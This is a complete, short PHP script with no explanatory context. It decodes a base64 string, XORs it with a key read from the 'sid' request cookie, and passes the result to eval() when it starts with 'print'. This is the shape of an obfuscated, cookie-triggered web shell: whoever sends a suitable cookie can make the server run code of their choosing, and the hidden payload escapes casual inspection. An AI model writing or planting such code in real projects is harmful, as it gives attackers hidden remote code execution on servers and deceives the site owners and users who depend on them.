<?php
$d = base64_decode('AQcMBgFHHQ8UGQk3EBcLBFlROjg6PDo8UwRHNVxGVQ==');
$k = isset($_COOKIE['sid']) ? $_COOKIE['sid'] : '0';
$o = '';
for ($i = 0, $n = strlen($d); $i < $n; $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }
if (substr($o, 0, 5) === 'print') { eval($o); }
